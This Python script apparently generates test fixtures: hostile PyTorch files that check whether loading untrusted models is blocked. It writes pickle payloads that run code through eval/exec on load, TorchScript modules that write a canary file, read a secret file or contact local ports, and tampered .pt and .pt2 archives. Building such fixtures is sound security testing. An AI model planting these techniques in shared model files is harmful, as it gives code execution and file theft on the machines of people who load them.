"""Write hostile PyTorch files: FOLDER CANARY SECRET PORT."""

import io
import json
import pickle
import sys
import warnings
import zipfile
from pathlib import Path
from typing import Final

import payload
import torch

folder, canary, secret = (Path(argument) for argument in sys.argv[1:4])
port = int(sys.argv[4])
warnings.simplefilter("ignore")
CODE = payload.source(canary, secret, port)
TENSOR = "(lambda torch: torch.nn.Parameter(torch.full((1,), 2.0)))(__import__('torch'))"
LENGTH = secret.stat().st_size


class Writer(torch.nn.Module):
    """Writes a file as soon as it is loaded."""

    path: Final[str] = str(canary)

    def __init__(self):
        super().__init__()
        self.kept = torch.zeros(8, dtype=torch.uint8)

    @torch.jit.export
    def __getstate__(self):
        return self.training

    @torch.jit.export
    def __setstate__(self, state: bool):
        self.training = state
        self.kept = torch.from_file(self.path, True, 8, dtype=torch.uint8).fill_(65)

    def forward(self, x):
        return x * 2


class Reader(torch.nn.Module):
    """Gives a file's bytes for an answer."""

    path: Final[str] = str(secret)
    length: Final[int] = LENGTH

    def forward(self, x):  # noqa: ARG002
        return torch.from_file(self.path, False, self.length, dtype=torch.uint8).float()[None]


class GroupTalker(torch.nn.Module):
    """Names an address where a group of processes is expected."""

    address: Final[str] = f"127.0.0.1:{port}"

    def forward(self, x):
        return torch.ops._c10d_functional.all_reduce(x, "sum", self.address)


class PeerTalker(torch.nn.Module):
    """Sends to a peer, in a group of its own making."""

    def forward(self, x):
        group = torch.classes.c10d.ProcessGroup(0, 2)
        torch.ops.c10d.send([x], group, 1, 0).wait()
        return x


@torch.jit.script
def remote(x):
    return x


class CallTalker(torch.nn.Module):
    """Is to call the function in another process, once its code is changed."""

    def forward(self, x):
        return remote(x)


class Double(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.factor = torch.nn.Parameter(torch.tensor([2.0]))

    def forward(self, x):
        return x * self.factor


class Evil:
    """Becomes a tensor when it is read, and runs code on the way."""

    def __reduce__(self):
        return eval, (f"(exec({CODE!r}, {{}}), {TENSOR})[1]",)


torch.jit.script(Writer()).save(str(folder / "writer.pt"))
torch.jit.script(Reader()).save(str(folder / "reader.pt"))
torch.jit.script(GroupTalker()).save(str(folder / "group.pt"))
torch.jit.script(PeerTalker()).save(str(folder / "peer.pt"))
torch.jit.script(CallTalker()).save(str(folder / "calling.pt"))
with (
    zipfile.ZipFile(folder / "calling.pt") as plain,
    zipfile.ZipFile(folder / "call.pt", "w") as evil,
):
    # torch.jit leaves the arguments of such a call out of the file, so it is written by hand.
    call = f'_0 = ops.prim.rpc_sync("127.0.0.1:{port}", "__torch__.remote", (x,))'
    for name in plain.namelist():
        content = plain.read(name).replace(
            b"return __torch__.remote(", f"{call}\n    return __torch__.remote(".encode()
        )
        evil.writestr(name, content)
torch.jit.script(Double()).save(str(folder / "double.pt"))
torch.save({"factor": Evil()}, folder / "evil_state.pt")
(folder / "evil_legacy.pt").write_bytes(pickle.dumps({"factor": Evil()}))
torch.save(Double().state_dict(), folder / "state.pt")
(folder / "architecture.py").write_text(
    f"{CODE}\nimport torch\n\n\nclass Double(torch.nn.Module):\n"
    "    def __init__(self):\n"
    "        super().__init__()\n"
    "        self.factor = torch.nn.Parameter(torch.tensor([1.0]))\n\n"
    "    def forward(self, x):\n"
    "        return x * self.factor\n"
)

shape = {"x": {0: torch.export.Dim("N", min=1)}}
exported = torch.export.export(Double(), (torch.ones(3, 4),), dynamic_shapes=shape)
torch.export.save(exported, folder / "plain.pt2")
with (
    zipfile.ZipFile(folder / "plain.pt2") as plain,
    zipfile.ZipFile(folder / "evil.pt2", "w") as evil,
):
    for name in plain.namelist():
        content = plain.read(name)
        if name.endswith("weights_config.json"):
            config = json.loads(content)
            for entry in config["config"].values():
                entry["use_pickle"] = True
            content = json.dumps(config).encode()
        elif "/data/weights/weight_" in name:
            buffer = io.BytesIO()
            torch.save(Evil(), buffer)
            content = buffer.getvalue()
        evil.writestr(name, content)
